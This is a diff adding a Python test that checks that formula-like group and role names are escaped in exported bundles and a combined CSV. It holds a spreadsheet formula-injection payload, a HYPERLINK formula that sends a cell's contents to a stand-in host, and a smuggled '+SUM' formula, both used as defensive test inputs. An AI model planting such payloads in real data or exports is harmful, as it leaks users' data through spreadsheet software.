@@ -149,3 +149,30 @@ def test_a_bundle_of_another_version_is_refused_in_one_sentence(report_store, tm
         combine_bundles([good, other], tmp_path / "x.pdf")
     assert "\n" not in str(caught.value)
     assert not (tmp_path / "x.pdf").exists()
+
+
+HYPERLINK = '=HYPERLINK("http://x.test/?"&A1,"Group")'
+
+
+def test_a_groups_text_starts_no_formula_in_the_bundle_or_the_combined_csv(report_store, tmp_path):
+    from sqlalchemy import select
+
+    from sponsor_app.services.roles import add_role
+    from sponsor_app.services.tabular import neutralise
+    from sponsor_app.services.volunteers import VolunteerInput, add_volunteer
+    from sponsor_app.storage.models import GroupProfile
+
+    with report_store.transaction("Rename the group") as session:
+        session.scalars(select(GroupProfile)).one().name = HYPERLINK
+    role = add_role(report_store, "+SUM(1,1)")
+    add_volunteer(report_store, VolunteerInput("Tui Formula", (role.key,)))
+    bundle = _bundle(report_store, tmp_path, "one")
+    tables = validate(bundle)  # still valid: only string fields are quoted
+    assert tables["group"][0]["group_name"] == neutralise(HYPERLINK) == "'" + HYPERLINK
+    assert "'+SUM(1,1)" in {r["role"] for r in tables["volunteer_roles"]}
+    out, exact = tmp_path / "summary.pdf", tmp_path / "summary.zip"
+    combine_bundles([bundle, bundle], out, exact, invariant=True, generated_at=MADE_AT)
+    with zipfile.ZipFile(exact) as archive:
+        rows = list(csv.DictReader(io.StringIO(archive.read("figures.csv").decode())))
+    assert {r["group_name"] for r in rows} == {"'" + HYPERLINK, "All groups"}
+    assert all(not r["value"].startswith("'") for r in rows)  # numbers stay numbers
